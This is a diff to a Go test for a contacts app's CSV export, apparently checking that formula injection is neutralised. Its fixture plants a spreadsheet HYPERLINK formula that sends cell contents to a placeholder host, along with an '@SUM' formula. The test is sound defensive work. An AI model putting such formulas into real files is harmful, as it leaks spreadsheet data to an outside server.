@@ -25,7 +25,7 @@ func exportFixture(t *testing.T, srv *apptest.Server) (tag string, merged int64)
 	org := contactstest.Org(t, srv.Pool, fmt.Sprintf("Formulu redakcija %d", n), contacts.Media)
 	srv.Pool.Exec(t.Context(), `update contacts set tags = array[$2] where id = $1`, org, tag)
 	p := contactstest.AddPerson(t, srv.Pool, contactstest.Person{Given: "Anna", Family: fmt.Sprintf("Formula%d", n),
-		Emails: []string{fmt.Sprintf("anna%d@example.lv", n)}, Phones: []string{"+37129123456"}, Tags: []string{tag},
+		Emails: []string{fmt.Sprintf("anna%d@example.lv", n)}, Phones: []string{fmt.Sprintf("+3712%07d", n%10000000)}, Tags: []string{tag},
 		OrgID: org, Role: "žurnāliste"})
 	srv.Pool.Exec(t.Context(), `update contacts set notes = '=HYPERLINK("http://x.example/?"&A1)', position = '@SUM(1+1)' where id = $1`, p)
 	contactstest.AddPerson(t, srv.Pool, contactstest.Person{Given: "Otto", Family: fmt.Sprintf("Atteicies%d", n),
@@ -45,7 +45,7 @@ func TestTheCSVExportNeutralisesFormulasAndLeavesOutMerged(t *testing.T) {
 	}
 	body := res.Body
 	for _, want := range []string{"\ufeffVeids;Vārds;Uzvārds", `"'=HYPERLINK(""http://x.example/?""&A1)"`, "'@SUM(1+1)",
-		"'+37129123456", "Formulu redakcija", "Atteicies", "Paliek", "Latvija", "Sabiedrības interešu uzdevums"} {
+		"'+3712", "Formulu redakcija", "Atteicies", "Paliek", "Latvija", "Sabiedrības interešu uzdevums"} {
 		if !strings.Contains(body, want) {
 			t.Errorf("CSV lacks %q:\n%s", want, body)
 		}
